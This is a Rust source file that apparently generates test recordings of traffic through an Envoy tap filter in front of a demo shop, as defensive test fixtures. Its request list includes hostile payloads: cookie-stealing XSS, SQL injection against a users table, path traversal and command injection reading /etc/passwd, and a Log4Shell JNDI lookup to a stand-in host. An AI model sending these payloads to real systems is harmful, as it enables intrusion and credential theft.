//! Makes the recordings in `tests/traffic`: what Envoy's tap filter and a browser see of the demo shop.
//!
//! They are checked in. They are made again when the formats of Envoy or of browsers change.

use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode, Stdio};
use std::time::Duration;

use clap::Parser;
use palisade_tests::backend::Backend;
use palisade_tests::bootstrap::shipped;
use palisade_tests::envoy::Envoy;
use palisade_tests::http::{Connection, Request};
use palisade_tests::process::wait_for;
use serde_json::json;

/// Runs the demo shop behind an Envoy that records, and visits it.
#[derive(Debug, Parser)]
struct Options {
    /// The folder that the recordings go to.
    #[arg(long, default_value = "tests/traffic")]
    out: PathBuf,
    /// An installed `playwright-core`; without it no browser is started.
    #[arg(long)]
    playwright: Option<PathBuf>,
    /// The browser.
    #[arg(long, default_value = "/usr/bin/chromium")]
    chromium: PathBuf,
}

/// The ports and the folder in `envoy/tap.yaml`.
const LISTENER_PORT: u16 = 10_000;
const BACKEND_PORT: u16 = 18_081;
const ADMIN_PORT: u16 = 9901;
const FOLDER: &str = "target/tap/request";
const FORMAT: &str = "PROTO_BINARY_LENGTH_DELIMITED";

fn main() -> ExitCode {
    match run(&Options::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(why) => {
            eprintln!("{why}");
            ExitCode::FAILURE
        }
    }
}

fn run(options: &Options) -> Result<(), String> {
    let out = std::path::absolute(&options.out).map_err(|error| error.to_string())?;
    let visits = visits();
    for (folder, format) in [("tap-json", "JSON_BODY_AS_STRING"), ("tap-proto", FORMAT)] {
        let folder = fresh(&out.join(folder))?;
        let shop = Shop::open(&folder, format)?;
        for request in &visits {
            shop.visit(request)?;
        }
        let expected = visits.len();
        wait_for("a file for each request", Duration::from_secs(20), || (count(&folder) >= expected).then_some(()))?;
        rename(&folder)?;
        println!("{}: {expected} requests", folder.display());
    }
    let Some(playwright) = &options.playwright else { return Ok(()) };
    let seen = tempfile::tempdir().map_err(|error| error.to_string())?;
    let shop = Shop::open(seen.path(), FORMAT)?;
    let har = out.join("browser.har");
    let script = palisade_tests::parts::root().join("tests/scripts/browse.mjs");
    let status = Command::new("node")
        .arg(script)
        .args([playwright, &options.chromium])
        .arg(format!("http://{}/shop", shop.address()))
        .arg(&har)
        .stdin(Stdio::null())
        .status()
        .map_err(|error| format!("node: {error}"))?;
    if !status.success() {
        return Err(format!("the browser's visit ended with {status}"));
    }
    println!("{}: {} requests reached the gateway", har.display(), count(seen.path()));
    Ok(())
}

/// The shop behind a gateway that records.
struct Shop {
    envoy: Envoy,
    _backend: Backend,
}

impl Shop {
    fn open(folder: &Path, format: &str) -> Result<Self, String> {
        let backend = Backend::start();
        let ports = [(LISTENER_PORT, 0), (BACKEND_PORT, backend.address().port()), (ADMIN_PORT, 0)];
        let bootstrap = shipped("tap.yaml", &ports);
        for written in [FOLDER, FORMAT] {
            if !bootstrap.contains(written) {
                return Err(format!("envoy/tap.yaml has no {written}"));
            }
        }
        let prefix = folder.join("request").display().to_string();
        let bootstrap = bootstrap.replace(&format!("path_prefix: {FOLDER}"), &format!("path_prefix: {prefix}"));
        let envoy =
            Envoy::start_with(&bootstrap.replace(&format!("format: {FORMAT}"), &format!("format: {format}")), 1, None)?;
        Ok(Self { envoy, _backend: backend })
    }

    fn address(&self) -> std::net::SocketAddr {
        self.envoy.listener("palisade")
    }

    fn visit(&self, request: &Request) -> Result<(), String> {
        let mut connection = Connection::open(self.address()).map_err(|error| format!("the gateway: {error}"))?;
        connection.write(&request.encode()).map_err(|error| format!("the gateway: {error}"))?;
        connection.read(false).map_err(|error| format!("no answer: {error}"))?;
        Ok(())
    }
}

/// Customers, a program, and those who try something.
fn visits() -> Vec<Request> {
    let form = |path: &str, body: &str| Request::post(path, "application/x-www-form-urlencoded", body);
    let upload = "--cut\r\ncontent-disposition: form-data; name=\"picture\"; filename=\"cat.svg\"\r\n\
        content-type: image/svg+xml\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\r\n--cut--\r\n";
    vec![
        Request::get("/shop"),
        Request::get("/shop/style.css").header("referer", "http://demo.test/shop"),
        Request::get("/shop/search?q=garden+chairs&page=2").header("cookie", "session=4b1d0e2f; theme=light"),
        Request::get("/shop/api/items?limit=3&sort=price").header("accept", "application/json"),
        form("/shop/login", "user=ada%40example.org&password=correct+horse+battery+staple"),
        form("/shop/reviews", "stars=5&text=Arrived+on+time%3B+would+order+again."),
        Request::json(
            "/shop/api/cart",
            &json!({"item": 2, "quantity": 1, "options": {"colour": "green", "gift": false}}),
        )
        .header("authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),
        Request::post("/shop/pictures", "multipart/form-data; boundary=cut", upload),
        Request::get("/shop/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        Request::get("/shop/items/1?sort=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-"),
        form("/shop/login", "user=admin%27+or+1%3D1--+-&password=x"),
        Request::get("/shop/items/..%2f..%2f..%2fetc%2fpasswd"),
        Request::get("/shop/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D"),
        Request::json("/shop/api/cart", &json!({"item": "1; cat /etc/passwd"})),
        Request::get("/shop/api/items").header("user-agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
        Request::get("/leak"),
        Request::get("/shop/nothing-here"),
    ]
}

fn fresh(folder: &Path) -> Result<PathBuf, String> {
    let failed = |error: std::io::Error| format!("{}: {error}", folder.display());
    match std::fs::remove_dir_all(folder) {
        Err(error) if error.kind() != std::io::ErrorKind::NotFound => return Err(failed(error)),
        _ => std::fs::create_dir_all(folder).map_err(failed)?,
    }
    Ok(folder.to_owned())
}

fn count(folder: &Path) -> usize {
    std::fs::read_dir(folder).map_or(0, |entries| {
        entries.flatten().filter(|entry| entry.metadata().is_ok_and(|data| data.len() > 0)).count()
    })
}

/// The gateway numbers its files at random; in the repository they are numbered in the order of the requests.
fn rename(folder: &Path) -> Result<(), String> {
    let failed = |error: std::io::Error| format!("{}: {error}", folder.display());
    let entries = std::fs::read_dir(folder).map_err(failed)?;
    let mut files: Vec<(std::time::SystemTime, PathBuf)> = entries
        .map(|entry| entry.and_then(|entry| Ok((entry.metadata()?.modified()?, entry.path()))))
        .collect::<Result<_, _>>()
        .map_err(failed)?;
    files.sort();
    for ((_, path), number) in files.iter().zip(1..) {
        let extension = path.extension().unwrap_or_default().to_string_lossy();
        std::fs::rename(path, folder.join(format!("request_{number:02}.{extension}"))).map_err(failed)?;
    }
    Ok(())
}
